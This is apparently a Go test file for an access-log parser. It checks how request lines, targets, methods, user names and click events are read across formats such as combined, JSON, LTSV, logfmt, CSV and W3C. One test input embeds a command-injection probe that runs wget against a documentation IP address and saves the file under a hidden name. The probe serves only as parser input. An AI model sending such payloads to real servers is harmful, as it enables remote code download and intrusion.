package logline

import (
	"strings"
	"testing"
)

// TestRequestIsAllOfIt reads requests with spaces in the formats that have a request in one piece.
func TestRequestIsAllOfIt(t *testing.T) {
	const at = `17/May/2015:10:05:03 +0000`
	requests := map[string]struct{ method, target string }{
		"GET /files/My Report.pdf HTTP/1.1": {"GET", "/files/My Report.pdf"},
		"GET  /files/a HTTP/1.1":            {"GET", "/files/a"},
		"GET /a b":                          {"GET", "/a b"},
		"GET /i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a' HTTP/1.1": {
			"GET", "/i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a'",
		},
		"POST /a HTTP/1.1 HTTP/2.0": {"POST", "/a HTTP/1.1"},
		"GET /a?b=1 HTTP 1.1":       {"GET", "/a?b=1"},
		"GET /a HTTP 1.12":          {"GET", "/a HTTP 1.12"},
		"GET /HTTP/1.1 x":           {"GET", "/HTTP/1.1 x"},
		"/index.html":               {"GET", "/index.html"},
	}
	for request, want := range requests {
		for format, line := range map[string]string{
			"combined":                   `h - - [` + at + `] "` + request + `" 200 5 "-" "UA"`,
			"common":                     `h - - [` + at + `] "` + request + `" 200 5`,
			"combined-more":              `h - - [` + at + `] "` + request + `" 200 5 "-" "UA" 0.1 x`,
			`%h %t "%r" %>s`:             `h [` + at + `] "` + request + `" 200`,
			"json":                       `{"time":"` + at + `","ip":"h","request":"` + request + `","status":200}`,
			"ltsv":                       "time:" + at + "\thost:h\treq:" + request + "\tstatus:200",
			"logfmt":                     `time="` + at + `" ip=h request="` + request + `" status=200`,
			"csv:time,ip,request,status": at + `,h,` + request + `,200`,
		} {
			var e Event
			reason := NewParser(mustName(t, format), Options{}).Parse([]byte(line), &e)
			if reason != OK || e.Click || string(e.Action) != want.method || string(e.Target) != want.target {
				t.Errorf("%s: %s: %v, %q %q, click %v", format, line, reason, e.Action, e.Target, e.Click)
			}
		}
	}
}

// TestTargetIsAllOfTheRequest reads records whose field of the path has the whole line of the request.
func TestTargetIsAllOfTheRequest(t *testing.T) {
	for line, want := range map[string]string{
		`{"requested_url":"GET /a?x=1 HTTP/1.1","method":"GET","status":200`: "GET /a?x=1",
		`{"uri":"PUT /b1/c HTTP/1.1","status":200`:                           "PUT /b1/c",
		`{"uri":"POST /","status":200`:                                       "POST /",
		`{"path":"/a GET /b","method":"GET","status":200`:                    "GET /a GET /b",
		`{"url":"https://a.example/GET /b","method":"DELETE","status":200`:   "DELETE /GET /b",
	} {
		var e Event
		line += `,"ip":"192.0.2.1","time":"2024-06-03T10:00:00Z"}`
		if reason := jsonParser(nil).Parse([]byte(line), &e); reason != OK || string(e.Action)+" "+string(e.Target) != want {
			t.Errorf("%s: %v, %s %s", line, reason, e.Action, e.Target)
		}
	}
}

// TestRequestsWithoutMethod count as GET where there is a path and a status, in every format.
func TestRequestsWithoutMethod(t *testing.T) {
	want := said{
		at: "2024-06-03T10:00:00Z", key: "h", client: "h", action: "GET", target: "/x.png", status: 404, bytes: -1,
	}
	for format, line := range map[string]string{
		"json":                              `{"ts":1717408800,"ip":"h","path":"/x.png","status":"404"}`,
		"logfmt":                            `ts=1717408800 ip=h path=/x.png status=404`,
		"ltsv":                              "time:1717408800\thost:h\turi:/x.png\tstatus:404",
		"csv:ts,ip,url,status":              `1717408800,h,https://shop.example/x.png,404`,
		"tsv:ts,ip,path,status":             "1717408800\th\t/x.png\t404",
		`$msec $remote_addr "$uri" $status`: `1717408800.000 h "/x.png" 404`,
		"w3c:date,time,c-ip,cs-uri-stem,c-status": `2024-06-03 10:00:00 h /x.png 404`,
	} {
		expectEvent(t, NewParser(mustName(t, format), Options{}), want, line)
	}
	p := NewParser(mustName(t, "json"), Options{})
	want.status, want.action = 200, "POST"
	expectEvent(t, p, want, `{"ts":1717408800,"ip":"h","path":"/x.png","status":200,"http":{"request":{"method":"post"}}}`)
	click := said{
		at: "2024-06-03T10:00:00Z", key: "h", client: "h", action: "pay", target: "/x", item: "/x", menu: "pay",
		status: 200, bytes: -1, click: true,
	}
	expectEvent(t, p, click, `{"ts":1717408800,"ip":"h","event":"pay","path":"/x","status":200,"method":"card"}`)
	click.status = 0
	expectEvent(t, p, click, `{"ts":1717408800,"ip":"h","event":"pay","path":"/x"}`)
}

// TestUsersWithBlanks are never rejected for their name only, in the formats where a blank ends it.
func TestUsersWithBlanks(t *testing.T) {
	for format, line := range map[string]string{
		"combined":          `h - USER [17/May/2015:10:05:03 +0000] "GET /x HTTP/1.1" 200 5 "-" "UA"`,
		"vhost-combined":    `s:80 h - USER [17/May/2015:10:05:03 +0000] "GET /x HTTP/1.1" 200 5 "-" "UA"`,
		"combined-more":     `h - USER [17/May/2015:10:05:03 +0000] "GET /x HTTP/1.1" 200 5 "-" "UA" 1`,
		`%h %u %>s %t "%r"`: `h USER 200 [17/May/2015:10:05:03 +0000] "GET /x HTTP/1.1"`,
		`"%h" "%u" %t "%r"`: `"h" "USER" [17/May/2015:10:05:03 +0000] "GET /x HTTP/1.1"`,
		"csv:time,user":     `1431857103,USER`,
		"ltsv":              "time:1431857103\tuser:USER",
	} {
		for _, name := range []string{"ann", "ann lee", "Ann M. van Lee", "o'brien", `a"b`, "", "김 철수"} {
			p := NewParser(mustName(t, format), Options{UserBy: mustUserBy(t, "user,ip,header:time")})
			var e Event
			written := strings.Replace(line, "USER", name, 1)
			if reason := p.Parse([]byte(written), &e); reason != OK || string(e.User) != name {
				t.Errorf("%s: %s: %v, %q", format, written, reason, e.User)
			}
		}
	}
}
